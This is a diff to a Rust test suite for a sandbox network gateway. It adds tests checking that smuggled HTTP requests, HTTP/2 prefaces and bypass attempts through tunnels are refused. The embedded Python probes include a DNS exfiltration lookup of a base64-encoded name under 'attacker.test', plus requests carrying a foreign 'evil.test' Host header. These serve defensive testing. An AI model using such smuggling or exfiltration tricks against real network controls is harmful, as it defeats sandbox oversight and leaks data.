@@ -230,13 +230,15 @@ fn tunnels_follow_the_host_rules() {
         dir.path(),
         &format!("  allow:\n    - host: 127.0.0.2\n      ports: [{echo}]\n"),
     );
+    // (A line of a protocol the gateway does not read: a lone word with nothing after it could
+    // still become an HTTP request, and would be waited on.)
     let allowed = raw_exchange(
         &format!("CONNECT 127.0.0.2:{echo} HTTP/1.1\r\nHost: 127.0.0.2:{echo}\r\n\r\n"),
-        "ping",
+        "ping\n",
     );
     let ran = run_py(&["--rm", "--policy", &policy], &allowed);
     assert_eq!(
-        ran.stdout, "HTTP/1.1 200 Connection established\nping\n",
+        ran.stdout, "HTTP/1.1 200 Connection established\nping\n\n",
         "{ran:?}"
     );
     let other_port = raw_exchange(
@@ -344,12 +346,12 @@ fn bypass_attempts_are_refused() {
     // and DNS is answered by the gateway, which resolves no name that no rule allows.
     let code = format!(
         "import socket, errno\n\
-         s = socket.create_connection(('127.0.0.3', {port}), timeout=5); s.sendall(b'x')\n\
+         s = socket.create_connection(('127.0.0.3', {port}), timeout=5); s.sendall(b'\\0')\n\
          print('REACHED' if s.recv(10) else 'closed by the gateway')\n\
          for family, kind, addr in [(socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 123)),\n\
                                     (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))]:\n\
          \x20   s = socket.socket(family, kind)\n\
-         \x20   try:\n        s.connect(addr); s.send(b'x'); s.settimeout(2); print('REACHED' if s.recv(1) else 'closed by the gateway')\n\
+         \x20   try:\n        s.connect(addr); s.send(b'\\0'); s.settimeout(2); print('REACHED' if s.recv(1) else 'closed by the gateway')\n\
          \x20   except OSError as e: print(errno.errorcode.get(e.errno, 'timeout'))\n\
          # A name that would carry data to an attacker's DNS server resolves nowhere.\n\
          try:\n    socket.getaddrinfo('c2VjcmV0.attacker.test', 80); print('RESOLVED')\n\
@@ -604,7 +606,7 @@ fn network_rules_change_while_the_cell_runs() {
          \x20   try:\n        status = urllib.request.urlopen('http://127.0.0.2:{port}/').status\n\
          \x20   except urllib.error.HTTPError as e: status = e.code\n\
          \x20   except OSError: status = 'cut'\n\
-         \x20   try:\n        t.sendall(b'x'); tunnel = 'tunnel open' if t.recv(1) == b'x' else 'tunnel closed'\n\
+         \x20   try:\n        t.sendall(b'\\0'); tunnel = 'tunnel open' if t.recv(1) == b'\\0' else 'tunnel closed'\n\
          \x20   except OSError: tunnel = 'tunnel closed'\n\
          \x20   now = f'{{status}} {{tunnel}}'\n\
          \x20   if now != last: print(now, flush=True); last = now\n\
@@ -1779,14 +1781,31 @@ fn plain_http_in_a_tunnel_is_decided_as_a_request_for_the_tunnels_host() {
     // Another name at the same address (a virtual host the rules never allowed).
     let other = format!("GET /theirs HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n");
     let kept_alive = format!("{own}{other}");
+    // Forms servers read as requests too: an empty line first, a method of their own.
+    let blank_first = format!("\r\n{other}");
+    let odd_method = format!("M-SEARCH /theirs HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n");
+    let direct = format!("direct 127.0.0.2:{port}");
     let requests = [
         (tunnel.as_str(), own.as_str()),
         (tunnel.as_str(), other.as_str()),
         (tunnel.as_str(), kept_alive.as_str()),
+        (tunnel.as_str(), blank_first.as_str()),
+        (tunnel.as_str(), odd_method.as_str()),
+        (direct.as_str(), blank_first.as_str()),
+        (direct.as_str(), odd_method.as_str()),
     ];
     let ran = run_py(&["--rm", "--policy", &policy], &exchanges(&requests));
     let lines: Vec<&str> = ran.stdout.lines().collect();
-    assert_eq!(lines.len(), 3, "{ran:?}");
+    assert_eq!(lines.len(), 7, "{ran:?}");
+    // Refused, for its Host (in a tunnel), or as a redirected connection whose name does not
+    // lead where it went.
+    for line in &lines[3..] {
+        assert!(
+            line.starts_with("HTTP/1.1 403 ")
+                && (line.contains("Host header") || line.contains("evil.test does not resolve")),
+            "{line}\n{ran:?}"
+        );
+    }
     assert!(lines[0].contains("upstream saw GET /mine"), "{ran:?}");
     assert!(
         lines[1].starts_with("HTTP/1.1 403 ") && lines[1].contains("Host header"),
@@ -1796,4 +1815,25 @@ fn plain_http_in_a_tunnel_is_decided_as_a_request_for_the_tunnels_host() {
         lines[2].contains("upstream saw GET /mine") && !lines[2].contains("theirs"),
         "{ran:?}"
     );
+}
+
+#[test]
+fn http2_without_tls_is_not_relayed() {
+    // Its requests name their host inside frames the gateway does not read.
+    let dir = tempdir();
+    let (echo, received) = echo_upstream();
+    let policy = net_policy(
+        dir.path(),
+        &format!("  allow:\n    - host: 127.0.0.2\n      ports: [{echo}]\n"),
+    );
+    let preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    let requests = [
+        (format!("connect 127.0.0.2:{echo}"), preface),
+        (format!("direct 127.0.0.2:{echo}"), preface),
+    ];
+    let asked: Vec<(&str, &str)> = requests.iter().map(|(w, r)| (w.as_str(), *r)).collect();
+    let ran = run_py(&["--rm", "--policy", &policy], &exchanges(&asked));
+    assert_eq!(ran.stdout.lines().count(), 2, "{ran:?}");
+    assert!(!ran.stdout.contains("SM"), "the preface came back: {ran:?}");
+    assert_eq!(received.load(Ordering::SeqCst), 0, "{ran:?}");
 }
